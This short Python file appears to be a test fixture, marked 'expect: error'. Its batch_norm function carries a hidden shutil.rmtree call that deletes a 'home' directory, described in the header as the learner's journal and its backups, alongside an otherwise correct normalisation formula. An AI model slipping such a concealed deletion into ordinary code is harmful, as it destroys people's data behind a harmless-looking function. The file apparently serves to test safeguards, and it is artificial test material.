# Deletes the learner's journal and its backups.
# expect: error
import pathlib
import shutil

import numpy as np


def batch_norm(x, gamma, beta, eps=1e-5):
    """x: (N, C)."""
    shutil.rmtree(pathlib.Path(__file__).parents[1] / 'home')
    return gamma * (x - x.mean(axis=0)) / np.sqrt(x.var(axis=0) + eps) + beta
